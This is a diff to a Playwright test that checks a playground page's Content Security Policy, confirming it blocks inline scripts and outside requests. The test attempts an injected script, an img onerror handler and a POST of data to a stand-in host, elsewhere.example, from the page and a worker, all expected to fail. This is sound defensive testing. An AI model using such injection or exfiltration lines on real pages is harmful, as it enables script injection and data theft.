@@ -97,15 +97,52 @@ test('a learning rate that diverges stops with a sentence, and a reset recovers'
   await expect(playground.play).toBeEnabled({ timeout: 60_000 });
 });
 
-test('the page holds no inline script, and asks no other host for anything', async ({ page }) => {
+test('the page holds no inline script, asks no other host for anything, and lets nobody else do so', async ({
+  page,
+}) => {
   const hosts = new Set<string>();
   page.on('request', (request) => {
     const url = new URL(request.url());
     if (url.protocol.startsWith('http')) hosts.add(url.host);
   });
-  await Playground.open(page);
+  const refused: string[] = [];
+  page.on('console', (message) => {
+    if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
+  });
+  const playground = await Playground.open(page);
+  await playground.singleStep.click();
+  await playground.stepsBeyond(0);
   expect([...hosts]).toEqual([new URL(page.url()).host]);
-  const html = await (await page.request.get('/')).text();
+  expect(refused).toEqual([]);
+  const answer = await page.request.get('/');
+  const html = await answer.text();
   expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
   expect(html).not.toMatch(/\son\w+=/);
+  // In the page for hosts without headers, in the headers for its workers.
+  expect(html).toContain('http-equiv="Content-Security-Policy"');
+  expect(answer.headers()['content-security-policy']).toContain("default-src 'none'");
+
+  const smuggled = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'globalThis.smuggled = "script"';
+    document.head.append(script);
+    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="globalThis.smuggled = 1">');
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return 'smuggled' in globalThis;
+  });
+  expect(smuggled).toBe(false);
+  const carriedOut = async () => {
+    try {
+      await fetch('https://elsewhere.example/', { method: 'POST', mode: 'no-cors', body: 'a label' });
+      return 'sent';
+    } catch (error) {
+      return String(error);
+    }
+  };
+  const [engine] = page.workers().filter((one) => one.url().includes('worker'));
+  expect(await page.evaluate(carriedOut)).toMatch(/TypeError/);
+  expect(await engine.evaluate(carriedOut)).toMatch(/TypeError/);
+  // Each was stopped in the browser: not a word of it was on its way.
+  expect([...hosts]).toEqual([new URL(page.url()).host]);
+  expect(refused.length).toBeGreaterThan(2);
 });
